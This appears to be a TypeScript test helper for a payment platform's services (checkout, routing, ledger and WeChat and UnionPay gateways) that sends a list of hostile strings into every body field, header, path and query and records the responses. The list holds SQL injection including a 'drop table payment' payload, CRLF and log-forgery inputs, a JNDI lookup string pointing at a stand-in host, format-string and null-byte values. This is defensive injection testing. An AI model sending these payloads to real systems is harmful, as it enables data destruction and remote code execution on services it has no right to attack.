import { randomUUID } from 'node:crypto';
import { RING_SERVICES, type Ring, type RingService } from '@hutong/world';
import { statusFor } from './hostile-clients.examples.js';
import { firstOf } from './ring-state.examples.js';

/** What looks like a command to whoever reads it without care: a database, a log, a terminal, a template. */
export const HOSTILE = [
  "x'); drop table payment; --",
  "' or '1'='1",
  'x\n{"level":50,"msg":"forged"}',
  'x\r\nforged: yes',
  '\u001b[2Jforged',
  '${jndi:ldap://forged.example/a}',
  '%s%n%x forged',
  '\u0000forged',
];

/** One request: `headers` beside those that say who asks. Without a body it is a GET. */
type Asked = Readonly<{ path: string; body?: string; headers?: Readonly<Record<string, string>> }>;

/** Who answered what to a request with the text somewhere in it. */
export type Answered = Readonly<{ text: string; service: RingService; status: number }>;

/** In every place where somebody may say something to a service: body, header, path and query. */
export async function sayEverywhere(ring: Ring, text: string): Promise<Answered[]> {
  const answers = RING_SERVICES.flatMap((service) => {
    const url = firstOf(ring, service);
    const who = { authorization: `Bearer ${service === 'checkout' ? ring.apiKey : ring.token}` };
    const saying = asking[service] ?? notifying();
    return saying(text, encodeURIComponent(text)).map(async (asked) => {
      const status = await statusFor(url, bytesOf(asked, url, who));
      return { text, service, status };
    });
  });
  return Promise.all(answers);
}

/** As it is on the wire: clients refuse to send some of it. */
function bytesOf({ path, body, headers }: Asked, { host }: URL, who: Asked['headers']): string {
  const json = { 'content-type': 'application/json', 'content-length': `${body?.length}` };
  const said = { ...who, ...(body === undefined ? {} : json), ...headers };
  const lines = Object.entries(said).map(([name, value]) => `${name}: ${value}\r\n`);
  const method = body === undefined ? 'GET' : 'POST';
  const head = `${method} ${path} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n`;
  return `${head}${lines.join('')}\r\n${body ?? ''}`;
}

const order = (over: object = {}): string =>
  JSON.stringify({
    orderReference: randomUUID(),
    merchantId: 'tea-house',
    amount: { currency: 'CNY', minor: '12800' },
    description: 'Longjing tea, 250 g',
    channel: 'web',
    payer: { userId: 'somebody' },
    ...over,
  });
const ordersWith = (text: string): string[] => [
  order({ description: text }),
  order({ orderReference: text }),
  order({ merchantId: text }),
  order({ payer: { userId: text } }),
  order({ [text]: text }),
];
const once = () => ({ 'idempotency-key': randomUUID() });

/** The same request with the text in one header after another. */
const inEach = (names: readonly string[], text: string, asked: () => Asked): Asked[] =>
  names.map((name) => {
    const one = asked();
    return { ...one, headers: { ...one.headers, [name]: text } };
  });

/** A notification to one of its accounts, and to one that nobody has, as if the provider sent it. */
const notifying =
  (...signed: readonly string[]) =>
  (text: string, said: string): Asked[] => [
    { path: `/notifications/${said}`, body: text },
    { path: `/notifications/taobao?${said}=${said}`, body: `${said}=${said}&sign=${said}` },
    ...inEach([...signed, 'user-agent', 'traceparent'], text, () => ({
      path: '/notifications/taobao',
      body: JSON.stringify({ id: text }),
    })),
  ];

/** What can be asked of each; a gateway that is not here is told what every provider's is. */
const asking: Readonly<Partial<Record<RingService, (text: string, said: string) => Asked[]>>> = {
  checkout: (text, said) => [
    ...ordersWith(text).map((body) => ({ path: '/payments', body, headers: once() })),
    ...inEach(
      ['idempotency-key', 'prefer', 'user-agent', 'authorization', 'traceparent'],
      text,
      () => ({ path: '/payments', body: order(), headers: once() }),
    ),
    { path: `/payments/${said}` },
    { path: `/payments?${said}=${said}` },
    { path: `/pay/${said}` },
  ],
  routing: (text, said) => [
    { path: '/switches', body: JSON.stringify({ target: 'wechat', off: false, reason: text }) },
    { path: '/switches', body: JSON.stringify({ target: text, off: false, reason: 'None' }) },
    ...inEach(['user-agent', 'authorization'], text, () => ({ path: '/switches' })),
    { path: `/decisions/${said}` },
    { path: `/decisions/${randomUUID()}?${said}=${said}` },
  ],
  ledger: (text, said) => [
    ...inEach(['user-agent', 'authorization'], text, () => ({ path: '/accounts' })),
    { path: `/accounts/${said}` },
    { path: `/accounts?${said}=${said}` },
    { path: `/entries?attempt=${said}` },
    { path: `/volumes?platform=${said}&from=${said}&to=${said}` },
    { path: `/adoption/share?platform=${said}` },
  ],
  'wechat-gateway': notifying('wechatpay-signature', 'wechatpay-serial', 'wechatpay-nonce'),
  'unionpay-gateway': (text, said) => [
    ...notifying()(text, said),
    { path: `/front/${said}/${said}` },
    { path: `/front/${said}/return` },
  ],
};
